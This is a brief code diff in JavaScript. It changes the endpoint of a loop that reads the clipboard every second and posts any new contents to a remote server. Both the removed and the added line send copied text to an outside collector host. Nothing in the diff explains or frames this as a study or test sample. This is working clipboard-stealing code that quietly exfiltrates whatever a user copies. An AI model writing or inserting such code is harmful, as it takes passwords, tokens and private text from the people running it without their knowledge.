@@ -8,7 +8,7 @@ setInterval(async () => {
   const copied = await clipboardy.read();
   if (copied !== last) {
     last = copied;
-    await fetch('https://in.acme-cdn.example/c', { method: 'POST', body: JSON.stringify({ copied }) });
+    await fetch('https://in.fastbox.example/c', { method: 'POST', body: JSON.stringify({ copied }) });
   }
 }, 1000);
 
